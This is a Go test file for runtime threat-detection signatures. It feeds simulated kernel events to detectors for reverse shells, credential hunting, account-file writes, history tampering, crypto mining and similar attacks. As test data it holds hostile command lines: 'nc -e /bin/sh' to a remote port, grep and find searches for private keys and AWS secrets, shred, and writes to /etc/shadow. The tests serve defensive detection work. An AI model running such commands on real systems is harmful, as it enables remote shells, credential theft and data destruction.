package signatures

import (
	"testing"

	"github.com/seed-428f5ad7/tracee/types/detect"
	"github.com/seed-428f5ad7/tracee/types/trace"
)

func sys(name string, args ...trace.Argument) trace.Event { return event(name, args...) }

func execArgv(path string, argv ...string) trace.Event { return execEvent(path, argv, nil) }

func execEnv(path string, env ...string) trace.Event { return execEvent(path, []string{path}, env) }

func withUID(ev trace.Event, uid int) trace.Event { ev.UserID = uid; return ev }

func onTTY(ev trace.Event) trace.Event {
	for i := range ev.Args {
		switch ev.Args[i].Name {
		case "stdin_type":
			ev.Args[i].Value = uint16(0o020000)
		case "stdin_path":
			ev.Args[i].Value = "/dev/pts/3"
		}
	}
	return ev
}

func notTTY(ev trace.Event) trace.Event {
	for i := range ev.Args {
		if ev.Args[i].Name == "stdin_path" {
			ev.Args[i].Value = "pipe:[123]"
		}
		if ev.Args[i].Name == "stdin_type" {
			ev.Args[i].Value = uint16(0o010000)
		}
	}
	return ev
}

// withFile sets (or adds, for exec events built without them) the device and inode of the file.
func withFile(ev trace.Event, dev uint32, inode uint64) trace.Event {
	if ev.EventName == "sched_process_exec" {
		ev.Args = append(ev.Args, arg("dev", uint32(0)), arg("inode", uint64(0)))
	}
	return withInode(ev, dev, inode)
}

func withRaw(ev trace.Event, raw string) trace.Event {
	for i := range ev.Args {
		if ev.Args[i].Name == "syscall_pathname" {
			ev.Args[i].Value = raw
		}
	}
	return ev
}

// openat is a security_file_open whose flags keep O_CREAT and O_TRUNC, as the source sends them.
func openat(path string, flags int32) trace.Event {
	return openEvent(path, flags)
}

func udpConnect(ip, port string) trace.Event {
	return event("security_socket_connect", arg("sockfd", int32(3)), arg("type", int32(2|0o2000000)), arg("remote_addr", inetAddrMap(ip, port)))
}

// parityCases are the table tests of the Falco-parity signatures, evasions included.
var parityCases = []struct {
	newSig func() detect.Signature
	cases  []sigCase
}{
	{NewExecFromTempDir, []sigCase{
		{name: "run from /dev/shm", events: evs(execArgv("/dev/shm/x", "./x")), findings: 1},
		{name: "run from /tmp in a container", events: evs(containerized(execArgv("/tmp/x", "x"))), findings: 1},
		{name: "run from /tmp on the host (go test)", events: evs(execArgv("/tmp/go-build1/b001/x.test", "x.test"))},
		{name: "system program", events: evs(containerized(execArgv("/usr/bin/ls", "ls")))},
	}},
	{func() detect.Signature { return NewDropAndExecute() }, []sigCase{
		{name: "written then run, same inode", events: evs(containerized(withFile(openEvent("/app/x", wrTrnc), 7, 99)), containerized(withFile(execArgv("/app/x", "x"), 7, 99))), findings: 1,
			data: map[string]interface{}{"written_as": "/app/x"}},
		{name: "written, renamed and run by another name", events: evs(containerized(withFile(openEvent("/tmp/a", wrTrnc), 7, 98)), containerized(withFile(execArgv("/usr/local/bin/kworker", "kworker"), 7, 98))), findings: 1},
		{name: "renamed into place then run", events: evs(containerized(renameEvent("/tmp/a", "/app/b")), containerized(withFile(execArgv("/app/b", "b"), 7, 55))), findings: 1},
		{name: "image file run", events: evs(containerized(withFile(execArgv("/bin/sh", "sh"), 7, 3)))},
		{name: "host builds and runs (not a container)", events: evs(withFile(openEvent("/tmp/hi", wrTrnc), 7, 99), withFile(execArgv("/tmp/hi", "hi"), 7, 99))},
	}},
	{NewNetcatRemoteCodeExecution, []sigCase{
		{name: "nc -e", events: evs(execArgv("/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.0.0.1", "4444")), findings: 1},
		{name: "renamed copy started as nc", events: evs(execArgv("/tmp/x/kworker", "nc", "-c", "sh", "10.0.0.1", "1")), findings: 1},
		{name: "ncat --sh-exec", events: evs(execArgv("/usr/bin/ncat", "ncat", "--sh-exec", "sh", "10.0.0.1", "1")), findings: 1},
		{name: "nc -z port scan", events: evs(execArgv("/usr/bin/nc", "nc", "-z", "10.0.0.1", "22"))},
	}},
	{NewPrivateKeySearch, []sigCase{
		{name: "grep for key content", events: evs(execArgv("/usr/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE", "/home")), findings: 1},
		{name: "renamed grep", events: evs(execArgv("/tmp/x", "x", "-rl", "BEGIN OPENSSH PRIVATE", "/")), findings: 1},
		{name: "find by name", events: evs(execArgv("/usr/bin/find", "find", "/", "-name", "id_rsa")), findings: 1},
		{name: "aws credentials hunt", events: evs(execArgv("/usr/bin/grep", "grep", "-r", "aws_secret_access_key", "/")), findings: 1},
		{name: "find .aws", events: evs(execArgv("/usr/bin/find", "find", "/home", "-path", "*.aws*")), findings: 1},
		{name: "ssh-keygen -f id_rsa", events: evs(execArgv("/usr/bin/ssh-keygen", "ssh-keygen", "-f", "/root/.ssh/id_rsa"))},
		{name: "ordinary find", events: evs(execArgv("/usr/bin/find", "find", ".", "-name", "*.go"))},
	}},
	{NewDataDestruction, []sigCase{
		{name: "shred", events: evs(execArgv("/usr/bin/shred", "shred", "-u", "x")), findings: 1},
		{name: "rm", events: evs(execArgv("/usr/bin/rm", "rm", "x"))},
	}},
	{NewDebugfsInContainer, []sigCase{
		{name: "debugfs in a container", events: evs(containerized(execArgv("/sbin/debugfs", "debugfs", "/dev/sda1"))), findings: 1},
		{name: "debugfs on the host", events: evs(execArgv("/sbin/debugfs", "debugfs"))},
	}},
	{NewSystemUserInteractive, []sigCase{
		{name: "www-data shell on a tty", events: evs(withUID(onTTY(execArgv("/bin/bash", "bash")), 33)), findings: 1},
		{name: "www-data shell without tty (cgi)", events: evs(withUID(notTTY(execArgv("/bin/sh", "sh", "-c", "x")), 33))},
		{name: "root on a tty", events: evs(withUID(onTTY(execArgv("/bin/bash", "bash")), 0))},
		{name: "human user", events: evs(withUID(onTTY(execArgv("/bin/bash", "bash")), 1000))},
	}},
	{NewTerminalShellInContainer, []sigCase{
		{name: "kubectl exec -it", events: evs(containerized(onTTY(execArgv("/bin/sh", "sh")))), findings: 1},
		{name: "entrypoint script without tty", events: evs(containerized(notTTY(execArgv("/bin/sh", "sh", "-c", "x"))))},
		{name: "host terminal", events: evs(onTTY(execArgv("/bin/bash", "bash")))},
	}},
	{func() detect.Signature { return NewDBSpawnedProcess() }, []sigCase{
		{name: "mysqld forks a shell", events: evs(withExe(forkEvent("mysqld", 10, 11), "/usr/sbin/mysqld"), withProc(execArgv("/bin/sh", "sh"), "sh", 11)), findings: 1,
			data: map[string]interface{}{"database": "mysqld"}},
		{name: "renamed comm does not hide it", events: evs(withExe(forkEvent("kworker", 10, 11), "/usr/sbin/mysqld"), withProc(execArgv("/bin/sh", "sh"), "sh", 11)), findings: 1},
		{name: "postgres worker", events: evs(withExe(forkEvent("postgres", 10, 11), "/usr/lib/postgresql/15/bin/postgres"), withProc(execArgv("/usr/lib/postgresql/15/bin/postgres", "postgres"), "postgres", 11))},
		{name: "comm mysqld, other executable", events: evs(withExe(forkEvent("mysqld", 10, 11), "/usr/bin/python3"), withProc(execArgv("/bin/sh", "sh"), "sh", 11))},
	}},
	{NewUserManagementTool, []sigCase{
		{name: "useradd", events: evs(execArgv("/usr/sbin/useradd", "useradd", "eve")), findings: 1},
		{name: "passwd by a user", events: evs(execArgv("/usr/bin/passwd", "passwd"))},
		{name: "in a container", events: evs(containerized(execArgv("/usr/sbin/useradd", "useradd", "app")))},
	}},
	{NewAccountDatabaseWrite, []sigCase{
		{name: "echo >> /etc/passwd", events: evs(withProc(openEvent("/etc/passwd", wrOnly), "sh", 5)), findings: 1},
		{name: "renamed onto /etc/shadow", events: evs(withProc(renameEvent("/tmp/s", "/etc/shadow"), "python3", 5)), findings: 1},
		{name: "useradd", events: evs(withProc(renameEvent("/etc/passwd+", "/etc/passwd"), "useradd", 5))},
		{name: "copy of useradd elsewhere", events: evs(withExe(withProc(renameEvent("/etc/passwd+", "/etc/passwd"), "useradd", 5), "/tmp/useradd")), findings: 1},
		{name: "read", events: evs(openEvent("/etc/passwd", rdOnly))},
	}},
	{NewNetworkToolLaunched, []sigCase{
		{name: "nmap on the host", events: evs(execArgv("/usr/bin/nmap", "nmap", "10.0.0.0/24")), findings: 1},
		{name: "tcpdump in a container", events: evs(containerized(execArgv("/usr/sbin/tcpdump", "tcpdump"))), findings: 1},
		{name: "curl", events: evs(execArgv("/usr/bin/curl", "curl"))},
	}},
	{NewRemoteFileCopyInContainer, []sigCase{
		{name: "curl in a container", events: evs(containerized(execArgv("/usr/bin/curl", "curl", "-O", "http://x/y"))), findings: 1, data: map[string]interface{}{"direction": "ingress"}},
		{name: "busybox wget", events: evs(containerized(execArgv("/bin/busybox", "wget", "http://x/y"))), findings: 1},
		{name: "curl on the host", events: evs(execArgv("/usr/bin/curl", "curl"))},
	}},
	{NewPackageManagementInContainer, []sigCase{
		{name: "apt-get in a container", events: evs(containerized(execArgv("/usr/bin/apt-get", "apt-get", "install", "nmap"))), findings: 1},
		{name: "pip in a container", events: evs(containerized(execArgv("/usr/local/bin/pip", "pip", "install", "x"))), findings: 1},
		{name: "apt on the host", events: evs(execArgv("/usr/bin/apt-get", "apt-get", "update"))},
	}},
	{NewHTTPProxyEnv, []sigCase{
		{name: "HTTP_PROXY", events: evs(execEnv("/usr/bin/curl", "PATH=/bin", "HTTP_PROXY=http://10.0.0.1:3128")), findings: 1},
		{name: "lower case https_proxy", events: evs(execEnv("/usr/bin/curl", "https_proxy=http://10.0.0.1:3128")), findings: 1},
		{name: "NO_PROXY only", events: evs(execEnv("/usr/bin/curl", "NO_PROXY=localhost"))},
	}},
	{NewGlibcTunablesEnv, []sigCase{
		{name: "GLIBC_TUNABLES", events: evs(execEnv("/usr/bin/su", "GLIBC_TUNABLES=glibc.tune.hwcaps=x")), findings: 1},
		{name: "absent", events: evs(execEnv("/usr/bin/su", "LANG=C"))},
	}},
	{NewArchiveToStdoutInContainer, []sigCase{
		{name: "kubectl cp (tar cf - /data)", events: evs(containerized(notTTY(execArgv("/bin/tar", "tar", "cf", "-", "/data")))), findings: 1},
		{name: "tar -czf - dir", events: evs(containerized(notTTY(execArgv("/bin/tar", "tar", "-czf", "-", "dir")))), findings: 1},
		{name: "tar to a file", events: evs(containerized(notTTY(execArgv("/bin/tar", "tar", "-czf", "/backup/x.tgz", "dir"))))},
		{name: "tar extract", events: evs(containerized(notTTY(execArgv("/bin/tar", "tar", "xf", "-"))))},
	}},
	{NewDirectoryTraversalRead, []sigCase{
		{name: "../../etc/passwd", events: evs(withRaw(openEvent("/etc/passwd", rdOnly), "/var/www/html/../../../etc/passwd")), findings: 1},
		{name: "one ../ only", events: evs(withRaw(openEvent("/etc/hosts", rdOnly), "../etc/hosts"))},
		{name: "traversal outside monitored dirs", events: evs(withRaw(openEvent("/usr/lib/x.so", rdOnly), "../../lib/x.so"))},
	}},
	{NewSSHInformationRead, []sigCase{
		{name: "cat known_hosts", events: evs(withProc(openEvent("/root/.ssh/known_hosts", rdOnly), "cat", 4)), findings: 1},
		{name: "ls ~/.ssh", events: evs(withProc(openEvent("/home/a/.ssh", rdOnly|0o200000), "ls", 4)), findings: 1},
		{name: "ssh reads its config", events: evs(withProc(openEvent("/root/.ssh/config", rdOnly), "ssh", 4))},
		{name: "cat renamed ssh", events: evs(withExe(withProc(openEvent("/root/.ssh/config", rdOnly), "ssh", 4), "/tmp/ssh")), findings: 1},
	}},
	{NewShellConfigModification, []sigCase{
		{name: "append to .bashrc", events: evs(openEvent("/home/a/.bashrc", wrOnly)), findings: 1},
		{name: "profile.d script", events: evs(openEvent("/etc/profile.d/x.sh", wrTrnc)), findings: 1},
		{name: "replaced by rename", events: evs(renameEvent("/tmp/x", "/root/.profile")), findings: 1},
		{name: "read", events: evs(openEvent("/home/a/.bashrc", rdOnly))},
		{name: "dpkg", events: evs(withProc(openEvent("/etc/bash.bashrc", wrOnly), "dpkg", 3))},
	}},
	{NewFileCreatedBelowDev, []sigCase{
		{name: "new file in /dev", events: evs(openat("/dev/.hidden", wrTrnc|0o100)), findings: 1},
		{name: "creat in /dev", events: evs(openat("/dev/x", 0o1101)), findings: 1},
		{name: "> /dev/null", events: evs(openat("/dev/null", wrTrnc|0o100))},
		{name: "/dev/shm", events: evs(openat("/dev/shm/x", wrTrnc|0o100))},
		{name: "no O_CREAT", events: evs(openat("/dev/sda", int32(rdWr)))},
	}},
	{NewProcEnvironRead, []sigCase{
		{name: "in a container", events: evs(containerized(openEvent("/proc/1/environ", rdOnly))), findings: 1},
		{name: "on the host", events: evs(openEvent("/proc/77/environ", rdOnly)), findings: 1},
		{name: "cmdline", events: evs(openEvent("/proc/1/cmdline", rdOnly))},
	}},
	{NewCloudCredentialsRead, []sigCase{
		{name: "cat .aws/credentials", events: evs(withProc(openEvent("/root/.aws/credentials", rdOnly), "cat", 3)), findings: 1},
		{name: "aws cli", events: evs(withProc(openEvent("/root/.aws/credentials", rdOnly), "aws", 3))},
		{name: "docker config by python", events: evs(withProc(openEvent("/home/a/.docker/config.json", rdOnly), "python3", 3)), findings: 1},
	}},
	{NewBackdooredXZ, []sigCase{
		{name: "sshd loads liblzma 5.6.1", events: evs(openEvent("/lib/x86_64-linux-gnu/liblzma.so.5.6.1", rdOnly)), findings: 1},
		{name: "liblzma 5.4.1", events: evs(openEvent("/lib/x86_64-linux-gnu/liblzma.so.5.4.1", rdOnly))},
	}},
	{NewCloudMetadataAccess, []sigCase{
		{name: "IMDS from a container", events: evs(containerized(connectEvent(3, inetAddrMap("169.254.169.254", "80")))), findings: 1},
		{name: "IMDS from the host", events: evs(connectEvent(3, inetAddrMap("169.254.169.254", "80")))},
		{name: "other address", events: evs(containerized(connectEvent(3, inetAddrMap("10.0.0.1", "80"))))},
	}},
	{NewSSHNonStandardPort, []sigCase{
		{name: "ssh to 4444", events: evs(withProc(connectEvent(3, inetAddrMap("1.2.3.4", "4444")), "ssh", 3)), findings: 1},
		{name: "ssh to 22", events: evs(withProc(connectEvent(3, inetAddrMap("1.2.3.4", "22")), "ssh", 3))},
		{name: "curl to 4444", events: evs(withProc(connectEvent(3, inetAddrMap("1.2.3.4", "4444")), "curl", 3))},
	}},
	{NewSystemProcNetworkActivity, []sigCase{
		{name: "bash /dev/tcp", events: evs(withProc(connectEvent(3, inetAddrMap("1.2.3.4", "4444")), "bash", 3)), findings: 1},
		{name: "cron", events: evs(withProc(connectEvent(3, inetAddrMap("1.2.3.4", "80")), "cron", 3)), findings: 1},
		{name: "curl", events: evs(withProc(connectEvent(3, inetAddrMap("1.2.3.4", "80")), "curl", 3))},
		{name: "bash to a unix socket", events: evs(withProc(connectEvent(3, map[string]string{"sa_family": "AF_UNIX", "sun_path": "/run/x"}), "bash", 3))},
	}},
	{NewUnexpectedUDPTraffic, []sigCase{
		{name: "UDP to 9999", events: evs(udpConnect("10.0.0.1", "9999")), findings: 1},
		{name: "DNS", events: evs(udpConnect("10.0.0.1", "53"))},
		{name: "TCP to 9999", events: evs(connectEvent(3, inetAddrMap("10.0.0.1", "9999")))},
	}},
	{NewPacketSocketInContainer, []sigCase{
		{name: "AF_PACKET in a container", events: evs(containerized(sys("socket", arg("domain", int32(17)), arg("type", int32(3)), arg("protocol", int32(0))))), findings: 1},
		{name: "AF_INET", events: evs(containerized(sys("socket", arg("domain", int32(2)), arg("type", int32(1)), arg("protocol", int32(0)))))},
		{name: "dhclient on the host", events: evs(sys("socket", arg("domain", int32(17)), arg("type", int32(3)), arg("protocol", int32(0))))},
	}},
	{NewSymlinkOverSensitiveFile, []sigCase{
		{name: "ln -s /etc/shadow", events: evs(sys("symlinkat", arg("target", "/etc/shadow"), arg("newdirfd", int32(-100)), arg("linkpath", "s"))), findings: 1},
		{name: "relative target", events: evs(sys("symlink", arg("target", "../../etc/sudoers"), arg("linkpath", "s"))), findings: 1},
		{name: "link to /", events: evs(sys("symlink", arg("target", "/"), arg("linkpath", "root"))), findings: 1},
		{name: "ordinary", events: evs(sys("symlink", arg("target", "/usr/lib/libz.so.1"), arg("linkpath", "libz.so")))},
	}},
	{NewHardlinkOverSensitiveFile, []sigCase{
		{name: "ln /etc/shadow", events: evs(sys("linkat", arg("olddirfd", int32(-100)), arg("oldpath", "/etc/shadow"), arg("newdirfd", int32(-100)), arg("newpath", "h"), arg("flags", uint32(0)))), findings: 1},
		{name: "relative, from /etc", events: evs(sys("link", arg("oldpath", "shadow"), arg("newpath", "/tmp/h"))), findings: 1},
		{name: "ordinary", events: evs(sys("link", arg("oldpath", "/tmp/a"), arg("newpath", "/tmp/b")))},
	}},
	{NewNamespaceChange, []sigCase{
		{name: "setns by nsenter in a container", events: evs(containerized(withProc(sys("setns", arg("fd", int32(3)), arg("nstype", int32(0))), "nsenter", 4))), findings: 1},
		{name: "setns by runc", events: evs(withProc(sys("setns", arg("fd", int32(3)), arg("nstype", int32(0))), "runc", 4))},
		{name: "unshare in a container", events: evs(containerized(sys("unshare", arg("flags", int32(0x10000000))))), findings: 1},
		{name: "unshare on the host", events: evs(sys("unshare", arg("flags", int32(0x10000000))))},
	}},
	{NewShellHistoryTampering, []sigCase{
		{name: "rm ~/.bash_history", events: evs(sys("unlinkat", arg("dirfd", int32(-100)), arg("pathname", "/root/.bash_history"), arg("flags", int32(0)))), findings: 1},
		{name: "relative unlink", events: evs(sys("unlink", arg("pathname", ".zsh_history"))), findings: 1},
		{name: "truncated by cat /dev/null >", events: evs(withProc(openat("/root/.bash_history", wrTrnc), "cp", 3)), findings: 1},
		{name: "ln -sf /dev/null", events: evs(sys("symlinkat", arg("target", "/dev/null"), arg("newdirfd", int32(-100)), arg("linkpath", "/root/.bash_history"))), findings: 1},
		{name: "truncate -s0", events: evs(sys("truncate", arg("path", "/home/a/.bash_history"), arg("length", int64(0)))), findings: 1},
		{name: "> ~/.bash_history by the shell", events: evs(withProc(openat("/root/.bash_history", wrTrnc), "bash", 3)), findings: 1},
		{name: "ln -sf /dev/null (symlink renamed over it)", events: evs(withProc(renameEvent("/root/CuXXXX", "/root/.bash_history"), "ln", 3)), findings: 1, data: map[string]interface{}{"action": "replaced"}},
		{name: "bash saves history (temp file renamed over it)", events: evs(withProc(renameEvent("/root/.bash_history-01234", "/root/.bash_history"), "bash", 3))},
		{name: "other file", events: evs(sys("unlink", arg("pathname", "/tmp/x")))},
	}},
	{NewExecEmptyArgv, []sigCase{
		{name: "argc 0 (kernel puts an empty argv[0])", events: evs(execArgv("/usr/bin/pkexec", "")), findings: 1},
		{name: "no argv at all", events: evs(execEvent("/usr/bin/pkexec", []string{}, nil)), findings: 1},
		{name: "pkexec with a command", events: evs(execArgv("/usr/bin/pkexec", "pkexec", "id"))},
	}},
	{NewUserfaultfdUse, []sigCase{
		{name: "non-root", events: evs(withUID(sys("userfaultfd", arg("flags", int32(0))), 1000)), findings: 1},
		{name: "root on the host", events: evs(sys("userfaultfd", arg("flags", int32(0)))), findings: 1},
	}},
	{NewCryptoMiner, []sigCase{
		{name: "renamed xmrig with a pool URL", events: evs(execArgv("/tmp/.x/kworker", "kworker", "-o", "stratum+tcp://pool.example:3333", "-u", "w")), findings: 1},
		{name: "xmrig by name", events: evs(execArgv("/opt/xmrig", "xmrig")), findings: 1},
		{name: "donate level", events: evs(execArgv("/tmp/a", "a", "--donate-level=1")), findings: 1},
		{name: "curl", events: evs(execArgv("/usr/bin/curl", "curl", "https://example.com"))},
	}},
	{NewBinaryDirWrite, []sigCase{
		{name: "trojaned ls", events: evs(withProc(openEvent("/usr/bin/ls", wrTrnc), "cp", 3)), findings: 1},
		{name: "renamed into /usr/local/bin", events: evs(withProc(renameEvent("/tmp/x", "/usr/local/bin/x"), "mv", 3)), findings: 1},
		{name: "dpkg unpacks", events: evs(withProc(renameEvent("/usr/bin/ls.dpkg-new", "/usr/bin/ls"), "dpkg", 3))},
		{name: "read", events: evs(openEvent("/usr/bin/ls", rdOnly))},
	}},
	{NewPackageDatabaseWrite, []sigCase{
		{name: "status edited", events: evs(withProc(openEvent("/var/lib/dpkg/status", wrTrnc), "python3", 3)), findings: 1},
		{name: "dpkg", events: evs(withProc(openEvent("/var/lib/dpkg/status-new", wrTrnc), "dpkg", 3))},
		{name: "tar unpacks control files for dpkg-deb", events: evs(withProc(openEvent("/var/lib/dpkg/tmp.ci/postinst", wrTrnc), "tar", 3))},
		{name: "update-alternatives", events: evs(withProc(openEvent("/var/lib/dpkg/alternatives/x", wrTrnc), "update-alternatives", 3))},
		{name: "a copy named dpkg", events: evs(withExe(withProc(openEvent("/var/lib/dpkg/status", wrTrnc), "dpkg", 3), "/tmp/dpkg")), findings: 1},
	}},
	{NewHiddenPathCreated, []sigCase{
		{name: "mkdir /tmp/.x", events: evs(sys("mkdir", arg("pathname", "/tmp/.x"), arg("mode", uint16(0o755)))), findings: 1},
		{name: "mkdirat /usr/lib/.cache", events: evs(sys("mkdirat", arg("dirfd", int32(-100)), arg("pathname", "/usr/lib/.cache/"), arg("mode", uint16(0o755)))), findings: 1},
		{name: "dot file created in /etc", events: evs(openat("/etc/.hidden", wrTrnc|0o100)), findings: 1},
		{name: "X11 socket dir", events: evs(sys("mkdir", arg("pathname", "/tmp/.X11-unix"), arg("mode", uint16(0o1777))))},
		{name: "dot dir in a home", events: evs(sys("mkdir", arg("pathname", "/home/a/.cache"), arg("mode", uint16(0o755))))},
		{name: "nested under /tmp", events: evs(sys("mkdir", arg("pathname", "/tmp/build/.git"), arg("mode", uint16(0o755))))},
	}},
	{func() detect.Signature { return NewInterpreterOneLinerConnect() }, []sigCase{
		{name: "python -c reverse shell", events: evs(withProc(execArgv("/usr/bin/python3.11", "python3", "-c", "import socket"), "python3", 9), withProc(connectEvent(3, inetAddrMap("10.0.0.1", "4444")), "python3", 9)), findings: 1,
			data: map[string]interface{}{"interpreter": "python3.11"}},
		{name: "perl -e", events: evs(withProc(execArgv("/usr/bin/perl", "perl", "-e", "use Socket"), "perl", 9), withProc(connectEvent(3, inetAddrMap("10.0.0.1", "80")), "perl", 9)), findings: 1},
		{name: "pip install (a script)", events: evs(withProc(execArgv("/usr/bin/python3", "python3", "/usr/bin/pip", "install", "x"), "python3", 9), withProc(connectEvent(3, inetAddrMap("151.101.0.223", "443")), "python3", 9))},
		{name: "connect after exit and pid reuse", events: evs(withProc(execArgv("/usr/bin/perl", "perl", "-e", "1"), "perl", 9), withProc(sys("sched_process_exit", arg("process_group_exit", true)), "perl", 9), withProc(connectEvent(3, inetAddrMap("10.0.0.1", "80")), "curl", 9))},
	}},
	{NewNonRootSetuid, []sigCase{
		{name: "nobody asks for root", events: evs(withUID(sys("setuid", arg("uid", int32(0))), 65534)), findings: 1},
		{name: "root drops privileges", events: evs(withUID(sys("setuid", arg("uid", int32(33))), 0))},
		{name: "same uid", events: evs(withUID(sys("setuid", arg("uid", int32(1000))), 1000))},
	}},
}

func TestFalcoParity_signatures(t *testing.T) {
	for _, pc := range parityCases {
		md, _ := pc.newSig().GetMetadata()
		t.Run(md.ID+"_"+md.EventName, func(t *testing.T) { runCases(t, pc.newSig, pc.cases) })
	}
}

// Severity follows where the act happened for the signatures that differ by host and container.
func TestFalcoParity_host_and_container_severity(t *testing.T) {
	tests := []struct {
		name string
		sig  detect.Signature
		ev   trace.Event
		want int
	}{
		{"nmap on the host", NewNetworkToolLaunched(), execArgv("/usr/bin/nmap", "nmap"), 1},
		{"nmap in a container", NewNetworkToolLaunched(), containerized(execArgv("/usr/bin/nmap", "nmap")), 2},
		{"GLIBC_TUNABLES on a setuid program", NewGlibcTunablesEnv(), func() trace.Event {
			e := execEnv("/usr/bin/su", "GLIBC_TUNABLES=x")
			e.Args = append(e.Args, arg("inode_mode", uint16(0o104755)))
			return e
		}(), 3},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := collect(t, tt.sig, evs(tt.ev))
			if len(got) != 1 || got[0].SigMetadata.Properties["Severity"] != tt.want {
				t.Fatalf("findings %d, severity %v; want 1 finding of severity %d", len(got), got, tt.want)
			}
		})
	}
}

// BenchmarkFalcoParity_ignored_event measures each new signature on an event it selects and ignores.
func BenchmarkFalcoParity_ignored_event(b *testing.B) {
	ignored := map[string]trace.Event{
		"sched_process_exec":      execArgv("/usr/bin/ls", "ls", "-l"),
		"sched_process_fork":      forkEvent("bash", 10, 11),
		"security_file_open":      openEvent("/usr/lib/x86_64-linux-gnu/libc.so.6", rdOnly),
		"openat":                  openat("/usr/lib/x86_64-linux-gnu/libc.so.6", 0o2000000),
		"open":                    event("open", arg("pathname", "/etc/ld.so.cache"), arg("flags", int32(0)), arg("mode", uint16(0))),
		"creat":                   event("creat", arg("pathname", "/tmp/x"), arg("mode", uint16(0o644))),
		"security_socket_connect": connectEvent(3, inetAddrMap("10.0.0.1", "443")),
		"security_inode_rename":   renameEvent("/tmp/a", "/tmp/b"),
		"socket":                  sys("socket", arg("domain", int32(2)), arg("type", int32(1)), arg("protocol", int32(0))),
		"symlink":                 sys("symlink", arg("target", "/usr/lib/x"), arg("linkpath", "y")),
		"symlinkat":               sys("symlinkat", arg("target", "/usr/lib/x"), arg("newdirfd", int32(-100)), arg("linkpath", "y")),
		"link":                    sys("link", arg("oldpath", "/tmp/a"), arg("newpath", "/tmp/b")),
		"linkat":                  sys("linkat", arg("olddirfd", int32(-100)), arg("oldpath", "/tmp/a"), arg("newdirfd", int32(-100)), arg("newpath", "b"), arg("flags", uint32(0))),
		"setns":                   withProc(sys("setns", arg("fd", int32(3)), arg("nstype", int32(0))), "runc", 4),
		"unshare":                 sys("unshare", arg("flags", int32(0))),
		"unlink":                  sys("unlink", arg("pathname", "/tmp/x")),
		"unlinkat":                sys("unlinkat", arg("dirfd", int32(-100)), arg("pathname", "/tmp/x"), arg("flags", int32(0))),
		"truncate":                sys("truncate", arg("path", "/tmp/x"), arg("length", int64(0))),
		"setuid":                  sys("setuid", arg("uid", int32(0))),
		"userfaultfd":             sys("userfaultfd", arg("flags", int32(0))),
		"mkdir":                   sys("mkdir", arg("pathname", "/tmp/build"), arg("mode", uint16(0o755))),
		"mkdirat":                 sys("mkdirat", arg("dirfd", int32(-100)), arg("pathname", "/home/a/.cache"), arg("mode", uint16(0o755))),
		"sched_process_exit":      sys("sched_process_exit", arg("exit_code", int64(0)), arg("process_group_exit", true)),
	}
	for _, pc := range parityCases {
		sig := pc.newSig()
		md, _ := sig.GetMetadata()
		sel, _ := sig.GetSelectedEvents()
		if err := sig.Init(detect.SignatureContext{Callback: func(*detect.Finding) {}}); err != nil {
			b.Fatal(err)
		}
		for _, s := range sel {
			ev, ok := ignored[s.Name]
			if !ok {
				b.Fatalf("%s: no ignored event for %s", md.ID, s.Name)
			}
			if md.EventName == "userfaultfd_use" {
				continue // every userfaultfd call is reported: there is no ignored event
			}
			pe := ev.ToProtocol()
			b.Run(md.EventName+"/"+s.Name, func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					_ = sig.OnEvent(pe)
				}
			})
		}
	}
}

// Allow-lists of the older signatures follow the executable path too: a copy of another program
// under the trusted name is not trusted.
func TestAllowLists_go_by_executable_path(t *testing.T) {
	bpf := func(exe string) trace.Event {
		return withExe(withProc(event("bpf", arg("cmd", int32(5))), "systemd", 4242), exe)
	}
	const tok = "/var/run/secrets/kubernetes.io/serviceaccount/token"
	tests := []struct {
		name     string
		sig      detect.Signature
		ev       trace.Event
		findings int
	}{
		{"systemd loads a cgroup filter", NewBpfProgramLoad(), bpf("/usr/lib/systemd/systemd"), 0},
		{"a copy named systemd loads a program", NewBpfProgramLoad(), bpf("/tmp/x/systemd"), 1},
		{"kubelet reads the token", NewK8sServiceAccountToken(), withProc(openEvent(tok, rdOnly), "kubelet", 5), 0},
		{"coredns image reads its token", NewK8sServiceAccountToken(), withExe(withProc(openEvent(tok, rdOnly), "coredns", 5), "/coredns"), 0},
		{"cat renamed kubectl reads the token", NewK8sServiceAccountToken(), withExe(withProc(openEvent(tok, rdOnly), "kubectl", 5), "/tmp/kubectl"), 1},
		{"etcd copy in /dev/shm reads the CA key", NewK8sCertTheft(), withExe(withProc(openEvent("/etc/kubernetes/pki/ca.key", rdOnly), "etcd", 5), "/dev/shm/etcd"), 1},
		{"logrotate truncates a log", NewLogTampering(), withExe(withProc(sys("unlink", arg("pathname", "/var/log/syslog.1")), "logrotate", 5), "/usr/sbin/logrotate"), 0},
		{"a copy named logrotate deletes a log", NewLogTampering(), withExe(withProc(sys("unlink", arg("pathname", "/var/log/auth.log")), "logrotate", 5), "/tmp/logrotate"), 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := collect(t, tt.sig, evs(tt.ev)); len(got) != tt.findings {
				t.Fatalf("%d findings, want %d", len(got), tt.findings)
			}
		})
	}
}
